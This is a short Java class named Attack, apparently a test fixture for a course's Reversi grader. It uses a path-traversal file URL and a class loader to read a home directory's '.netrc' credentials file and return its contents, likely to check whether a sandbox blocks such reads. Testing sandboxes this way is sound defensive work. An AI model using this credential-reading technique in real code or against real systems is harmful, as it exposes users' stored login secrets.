package reversi;

import java.io.InputStream;
import java.net.URL;
import java.net.URLClassLoader;

class Attack {
    static String attack(IView view) throws Exception {
        URL home = new URL("file:@course@/../home/");
        try (URLClassLoader loader = new URLClassLoader(new URL[] {home});
                InputStream found = loader.getResourceAsStream(".netrc");
                InputStream read = found != null ? found : new URL(home, ".netrc").openStream()) {
            return new String(read.readAllBytes(), "UTF-8");
        }
    }
}
